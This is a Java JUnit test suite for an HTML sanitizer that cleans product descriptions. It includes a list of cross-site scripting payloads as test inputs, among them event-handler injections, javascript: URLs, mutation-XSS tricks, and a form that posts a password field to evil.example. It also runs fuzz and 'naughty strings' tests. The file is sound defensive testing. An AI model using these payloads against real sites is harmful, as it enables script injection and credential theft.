package services.adapters.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

class OwaspHtmlTest {

    private static final Path NAUGHTY = Path.of("../shared/data/malicious/blns.json");

    private static final Set<String> HARMLESS =
            Set.of(
                    "p",
                    "div",
                    "br",
                    "hr",
                    "blockquote",
                    "h2",
                    "h3",
                    "h4",
                    "ul",
                    "ol",
                    "li",
                    "dl",
                    "dt",
                    "dd",
                    "b",
                    "i",
                    "em",
                    "strong",
                    "u",
                    "s",
                    "sub",
                    "sup",
                    "small",
                    "table",
                    "caption",
                    "thead",
                    "tbody",
                    "tfoot",
                    "tr",
                    "th",
                    "td",
                    "a",
                    "img");

    private static final Set<String> HARMLESS_ATTRIBUTES =
            Set.of("href", "rel", "src", "alt", "width", "height", "colspan", "rowspan");

    private final OwaspHtml html = new OwaspHtml();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>A <b>good</b> <em>chair</em></p>",
                "<h2>Size</h2><ul><li>90 cm</li><li>40 cm</li></ul>",
                "<table><thead><tr><th>Size</th></tr></thead><tbody><tr><td>90</td></tr></tbody></table>",
                "Just words"
            })
    void keepsWhatADescriptionNeeds(String good) {
        assertThat(html.clean(good)).isEqualTo(good);
    }

    @Test
    void keepsLinksButGivesThemNoWeight() {
        assertThat(html.clean("<a href=\"https://example.org/a\">more</a>"))
                .isEqualTo("<a href=\"https://example.org/a\" rel=\"nofollow\">more</a>");
        assertThat(html.clean("<a href=\"mailto:a&#64;example.org\">write</a>"))
                .contains("mailto:");
    }

    @Test
    void keepsPicturesFromSecureAddressesOnly() {
        assertThat(html.clean("<img src=\"https://example.org/a.jpg\" alt=\"A chair\">"))
                .contains("src=\"https://example.org/a.jpg\"")
                .contains("alt=\"A chair\"");
        assertThat(html.clean("<img src=\"http://example.org/a.jpg\" alt=\"x\">")).isEmpty();
        assertThat(html.clean("<img src=\"//example.org/a.jpg\" alt=\"x\">")).isEmpty();
        assertThat(html.clean("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">")).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "<h1>Big</h1>, <h2>Big</h2>",
        "<h6>Small</h6>, <h4>Small</h4>",
        "<p style='color:red' class='x' id='y' onclick='z()'>Text</p>, <p>Text</p>",
        "<font size='7'>Text</font>, Text",
        "<style>p {color: red}</style>Text, Text",
        "<script>alert(1)</script>Text, Text",
        "<p>open, <p>open</p>"
    })
    void dropsWhatItDoesNotNeed(String given, String expected) {
        assertThat(html.clean(given)).isEqualTo(expected);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert&#40;1)</script></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
                        + " onerror=alert(1)&gt;\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"//evil.example\">x</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<object data=\"https://evil.example\"></object><embed src=\"x\">",
                "<form action=\"https://evil.example\"><input name=\"password\"></form>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<<script>alert(1);//<</script>",
                "<template><script>alert(1)</script></template>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "\u0000<scr\u0000ipt>alert(1)</script>",
                "<img src=\"https://x.example/`onerror=alert(1)\">",
                "{{constructor.constructor('alert(1)')()}}"
            })
    void leavesNothingThatActs(String attack) {
        assertHarmless(attack);
    }

    @Test
    void leavesNothingThatActsOfTheNaughtyStrings() throws IOException {
        Assumptions.assumeTrue(
                Files.exists(NAUGHTY), "The naughty strings in ../shared/data are not here");

        var strings = JsonMapper.shared().readValue(Files.readString(NAUGHTY), String[].class);

        assertThat(strings).hasSizeGreaterThan(500);
        for (var naughty : strings) {
            assertHarmless(naughty);
            assertHarmless("<p title=\"" + naughty + "\">" + naughty + "</p>");
            assertHarmless("<a href='" + naughty + "'>" + naughty);
        }
    }

    @Test
    void settlesForMarkupInAnyDisorder() {
        var parts =
                new String[] {
                    "<p>",
                    "</p>",
                    "<h1>",
                    "</h1>",
                    "<h2>",
                    "<div>",
                    "</div>",
                    "<table>",
                    "<tr>",
                    "<td>",
                    "</table>",
                    "<a href='https://a.example'>",
                    "</a>",
                    "<ul>",
                    "<li>",
                    "</ul>",
                    "text",
                    "<b>",
                    "<svg>",
                    "<!--",
                    "-->",
                    "<style>",
                    "</style>",
                    "<img "
                };
        var random = new Random(42);
        for (int sample = 0; sample < 3000; sample++) {
            var soup = new StringBuilder();
            for (int part = random.nextInt(12); part >= 0; part--) {
                soup.append(parts[random.nextInt(parts.length)]);
            }
            assertHarmless(soup.toString());
        }
    }

    private void assertHarmless(String given) {
        var cleaned = html.clean(given);

        assertThat(html.clean(cleaned)).as("cleaned twice: %s", given).isEqualTo(cleaned);
        for (var element : Jsoup.parseBodyFragment(cleaned).body().children().select("*")) {
            assertHarmless(element, given);
        }
    }

    private static void assertHarmless(Element element, String given) {
        assertThat(HARMLESS).as(given).contains(element.normalName());
        for (var attribute : element.attributes()) {
            assertThat(HARMLESS_ATTRIBUTES).as(given).contains(attribute.getKey());
        }
        if (element.hasAttr("href")) {
            assertThat(element.attr("href").toLowerCase(Locale.ROOT))
                    .as(given)
                    .matches("(?s)(https?://|mailto:).*");
            assertThat(element.attr("rel")).isEqualTo("nofollow");
        }
        if (element.hasAttr("src")) {
            assertThat(element.attr("src").toLowerCase(Locale.ROOT)).startsWith("https://");
        }
    }
}
